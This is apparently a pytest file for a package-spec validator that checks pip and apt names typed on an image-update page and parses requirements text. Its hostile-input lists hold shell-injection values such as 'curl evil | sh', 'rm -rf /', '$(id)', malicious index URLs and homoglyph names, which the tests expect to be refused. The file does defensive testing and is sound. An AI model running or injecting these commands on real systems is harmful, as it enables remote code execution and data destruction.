"""Package specs typed on the image-update page: what is accepted, and that
nothing hostile gets through."""

import time

import pytest

from ds01_spawner.packages import (
    MAX_REQUIREMENTS_LENGTH,
    MAX_REQUIREMENTS_LINE_LENGTH,
    PackageError,
    apt_name,
    parse_requirements_text,
    pip_name,
    validate_apt_package,
    validate_pip_spec,
)

ACCEPTED_PIP = [
    ("transformers", "transformers"),
    ("transformers==4.*", "transformers==4.*"),
    ("numpy>=1.24,<2", "numpy<2,>=1.24"),
    ("torch~=2.3", "torch~=2.3"),
    ("pkg[extra2,extra1]==1.0", "pkg[extra1,extra2]==1.0"),
    ("scikit-learn", "scikit-learn"),
    ("Pillow", "Pillow"),
    ("torch==2.3.0+cu121", "torch==2.3.0+cu121"),
    ("opencv-python-headless!=4.8.0.74", "opencv-python-headless!=4.8.0.74"),
    ("zope.interface", "zope.interface"),
    ("  numpy  ", "numpy"),
]


@pytest.mark.parametrize(("spec", "normalized"), ACCEPTED_PIP)
def test_pip_specs_people_type_are_accepted_and_normalized(spec, normalized):
    assert validate_pip_spec(spec) == normalized


HOSTILE_PIP = [
    "",
    "   ",
    "numpy\nRUN curl evil | sh",
    "numpy\r\nRUN id",
    "numpy\n",
    "numpy\t",
    "num\tpy",
    "numpy\x00",
    "numpy\x1b[2J",
    "numpy;rm -rf /",
    "numpy; rm -rf /",
    "numpy&&curl evil",
    "numpy && id",
    "numpy|sh",
    "numpy`id`",
    "numpy$(id)",
    "$(id)",
    "numpy${IFS}id",
    "numpy>/etc/passwd",
    "numpy>=1 >/tmp/x",
    "numpy==1.0 numpy",
    "--index-url=http://x",
    "--index-url http://evil/simple numpy",
    "--extra-index-url=https://evil/simple",
    "-e .",
    "-e",
    "-r /etc/passwd",
    "-c constraints.txt",
    "/etc/passwd",
    "./pkg",
    ".pkg",
    "../x",
    "..",
    "~/x",
    "~x",
    "file:///x",
    "file:x",
    "https://evil/x.whl",
    "http://evil/x.whl",
    "pkg @ https://evil/x.whl",
    "pkg@https://evil/x.whl",
    "git+https://evil/x.git",
    'pkg; os_name=="nt"',
    "pkg;os_name=='nt'",
    '"numpy"',
    "'numpy'",
    "numpy'",
    "numpy\\",
    "numpy\\\nRUN id",
    "num py",
    "numpy\u00a0",
    "\uff54orch",
    "t\u043erch",
    "torch==\uff11.0",
    "numpy#comment",
    "pkg(>=1.0)",
    "numpy>=",
    "numpy<>2",
    "a-",
    "x" * 201,
    "x" * 10_000,
    "numpy==1.0," * 1000,
]


@pytest.mark.parametrize("spec", HOSTILE_PIP)
def test_hostile_pip_specs_are_refused(spec):
    with pytest.raises(PackageError):
        validate_pip_spec(spec)


# What allow_urls=True is for: a plain https direct reference.
HTTPS_REFERENCES = {"pkg @ https://evil/x.whl", "pkg@https://evil/x.whl"}


@pytest.mark.parametrize("spec", [s for s in HOSTILE_PIP if s not in HTTPS_REFERENCES])
def test_hostile_pip_specs_stay_refused_when_urls_are_allowed(spec):
    with pytest.raises(PackageError):
        validate_pip_spec(spec, allow_urls=True)


def test_https_direct_reference_is_accepted_only_with_allow_urls():
    spec = "pkg @ https://files.example.org/pkg-1.0-py3-none-any.whl#sha256=abc123"
    with pytest.raises(PackageError, match="URL"):
        validate_pip_spec(spec)
    assert validate_pip_spec(spec, allow_urls=True) == spec


@pytest.mark.parametrize(
    "spec",
    [
        "pkg @ http://example.org/pkg.whl",
        "pkg @ file:///tmp/pkg.whl",
        "pkg @ https://user:secret@example.org/pkg.whl",
        "pkg @ https:///pkg.whl",
        "pkg @ https://example.org/$(id).whl",
        "pkg @ https://example.org/a b.whl",
        "pkg==1.0 @ https://example.org/pkg.whl",
        "@ https://example.org/pkg.whl",
        "pkg @ https://example.org/pkg.whl ; os_name=='nt'",
    ],
)
def test_direct_references_other_than_plain_https_are_refused(spec):
    with pytest.raises(PackageError):
        validate_pip_spec(spec, allow_urls=True)


def test_error_names_the_input_shortened_and_repr_d():
    with pytest.raises(PackageError) as info:
        validate_pip_spec("numpy\n" + "x" * 500)
    message = str(info.value)
    assert "'numpy\\nxxx" in message
    assert "x" * 100 not in message
    assert "control character" in message


def test_error_says_what_is_allowed():
    with pytest.raises(PackageError, match="only letters, digits"):
        validate_pip_spec("numpy(1)")


def test_option_error_says_options_are_not_allowed():
    with pytest.raises(PackageError, match="pip options"):
        validate_pip_spec("--index-url=http://x")


def test_marker_error_mentions_environment_markers():
    with pytest.raises(PackageError, match="environment markers"):
        validate_pip_spec('pkg;os_name=="nt"')


def test_non_text_is_refused():
    with pytest.raises(PackageError, match="text"):
        validate_pip_spec(None)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("spec", "name"),
    [
        ("Transformers==4.1", "transformers"),
        ("scikit_learn>=1", "scikit-learn"),
        ("Scikit.Learn", "scikit-learn"),
        ("pkg[extra]==1.0", "pkg"),
        ("pkg @ https://example.org/pkg.whl", "pkg"),
    ],
)
def test_pip_name_is_the_canonical_project_name(spec, name):
    assert pip_name(spec) == name


def test_pip_name_validates_its_input():
    with pytest.raises(PackageError):
        pip_name("numpy; id")


ACCEPTED_APT = [
    "ffmpeg",
    "libgl1",
    "g++",
    "libstdc++6",
    "python3.11-dev",
    "git=1:2.39.2-1.1",
    "ffmpeg=7:5.1.6-0+deb12u1",
    "libfoo=1.0~rc1-2",
    "x" * 100,
]


@pytest.mark.parametrize("name", ACCEPTED_APT)
def test_debian_package_names_are_accepted_unchanged(name):
    assert validate_apt_package(name) == name


HOSTILE_APT = [
    "",
    "-y",
    "--allow-unauthenticated",
    "-o=APT::Get::AllowUnauthenticated=1",
    "ffmpeg git",
    "ffmpeg\ngit",
    "ffmpeg\n",
    "ffmpeg\x00",
    "ffmpeg;id",
    "ffmpeg&&id",
    "ffmpeg|sh",
    "ffmpeg`id`",
    "ffmpeg$(id)",
    "ffmpeg${IFS}id",
    "ffmpeg>x",
    "../x",
    "./x.deb",
    "/tmp/x.deb",
    "~/x",
    "FFmpeg",
    "f",
    "_ffmpeg",
    ".ffmpeg",
    "+ffmpeg",
    "ffmpeg*",
    "lib?",
    "ffmpeg/bookworm",
    "ffmpeg:amd64",
    "ffmpeg=",
    "ffmpeg=latest",
    "ffmpeg=1.0;id",
    "ffmpeg=1.0 git",
    "ffmpeg=1:~x",
    "ffmpeg=~1",
    "ffmpeg==1.0",
    "'ffmpeg'",
    "\uff46fmpeg",
    "x" * 101,
    "x" * 10_000,
]


@pytest.mark.parametrize("name", HOSTILE_APT)
def test_hostile_apt_packages_are_refused(name):
    with pytest.raises(PackageError):
        validate_apt_package(name)


def test_apt_name_drops_the_version():
    assert apt_name("git=1:2.39.2-1.1") == "git"


def test_requirements_skip_blank_lines_and_comments():
    text = "# tools\n\nnumpy>=1.24  # arrays\n   \n  # indented comment\npandas\n"
    assert parse_requirements_text(text) == ["numpy>=1.24", "pandas"]


def test_requirements_accept_windows_line_ends():
    assert parse_requirements_text("numpy\r\npandas\r\n") == ["numpy", "pandas"]


@pytest.mark.parametrize(
    "option", ["-r other.txt", "-e .", "--index-url https://x/simple", "-c c.txt", "--pre"]
)
def test_requirements_option_lines_are_refused_with_their_line_number(option):
    with pytest.raises(PackageError, match=r"line 3: .*pip option"):
        parse_requirements_text(f"numpy\n# comment\n{option}\npandas\n")


def test_requirements_bad_package_error_names_its_line():
    with pytest.raises(PackageError, match=r"^line 2: pip package 'pandas;id'"):
        parse_requirements_text("numpy\npandas;id\n")


def test_requirements_keep_the_first_entry_for_a_repeated_package():
    text = "numpy==1.26\npandas\nNumPy>=2\n"
    assert parse_requirements_text(text) == ["numpy==1.26", "pandas"]


def test_requirements_refuse_more_than_max_lines_packages():
    text = "\n".join(f"pkg{i}" for i in range(6))
    with pytest.raises(PackageError, match="line 6: more than 5 packages"):
        parse_requirements_text(text, max_lines=5)


def test_requirements_comments_do_not_count_towards_max_lines():
    text = "# a\n# b\n# c\npkg1\npkg2\n"
    assert parse_requirements_text(text, max_lines=2) == ["pkg1", "pkg2"]


def test_requirements_urls_follow_allow_urls():
    text = "pkg @ https://example.org/pkg.whl\n"
    with pytest.raises(PackageError, match="line 1"):
        parse_requirements_text(text)
    assert parse_requirements_text(text, allow_urls=True) == ["pkg @ https://example.org/pkg.whl"]


def test_requirements_refuse_a_line_continuation():
    with pytest.raises(PackageError, match="line 1"):
        parse_requirements_text("numpy \\\n  pandas\n")


def test_requirements_refuse_unusual_line_separators():
    with pytest.raises(PackageError, match="control character"):
        parse_requirements_text("numpy\x0bpandas\n")


def test_empty_requirements_give_no_packages():
    assert parse_requirements_text("\n# nothing yet\n") == []


# ---------------------------------------------------------------- hostile sizes

# Each case once took seconds of the service's event loop (the old comment
# regex backtracked quadratically: a 40 KB line of spaces took 14 s). The
# target is a few milliseconds; the bound is loose for a loaded CI machine.
BOUND_S = 0.5

HOSTILE_REQUIREMENTS = {
    "40 KB of spaces": " " * 40_000,
    "40 KB of '# '": "# " * 20_000,
    "40 KB of '= '": "= " * 20_000,
    "40 KB of tabs and '='": "\t=" * 20_000,
    "40 KB of 'a#'": "a#" * 20_000,
    "40 KB of 'x #' after a package": "numpy" + " x #" * 10_000,
    "4 KB line of spaces": " " * 4000 + "numpy",
    "250 KB of comment lines": "# a comment\n" * 21_000,
    "250 KB of blank lines": "\n" * 250_000,
    "250 KB of package lines": "numpy>=1.24  # arrays\n" * 11_000,
    "250 KB of space runs": (" " * 1000 + "\n") * 250,
    "300 KB": "numpy\n" * 50_000,
}


@pytest.mark.parametrize("text", HOSTILE_REQUIREMENTS.values(), ids=HOSTILE_REQUIREMENTS.keys())
def test_hostile_requirements_are_answered_quickly(text):
    started = time.perf_counter()
    try:
        parse_requirements_text(text)
    except PackageError as exc:
        assert str(exc), "a refusal says why"
    assert time.perf_counter() - started < BOUND_S


def test_requirements_over_the_total_cap_are_refused_before_reading_a_line():
    text = "numpy\n" * (MAX_REQUIREMENTS_LENGTH // 6 + 1)
    with pytest.raises(PackageError, match=f"more than the {MAX_REQUIREMENTS_LENGTH}"):
        parse_requirements_text(text)


def test_a_line_over_the_length_cap_is_refused_with_its_number():
    text = "numpy\n" + " " * (MAX_REQUIREMENTS_LINE_LENGTH + 1) + "\n"
    too_long = f"^line 2 is .* more than {MAX_REQUIREMENTS_LINE_LENGTH}"
    with pytest.raises(PackageError, match=too_long):
        parse_requirements_text(text)


@pytest.mark.parametrize(
    ("text", "packages"),
    [
        ("numpy # arrays", ["numpy"]),
        ("numpy\t# arrays", ["numpy"]),
        ("numpy>=1.24 # a # b", ["numpy>=1.24"]),
        ("# numpy", []),
        ("   # numpy", []),
    ],
)
def test_a_comment_starts_at_a_hash_at_the_start_or_after_whitespace(text, packages):
    assert parse_requirements_text(text) == packages


def test_a_hash_inside_a_word_is_part_of_it_as_pip_reads_it():
    with pytest.raises(PackageError, match="'numpy#egg'"):
        parse_requirements_text("numpy#egg")
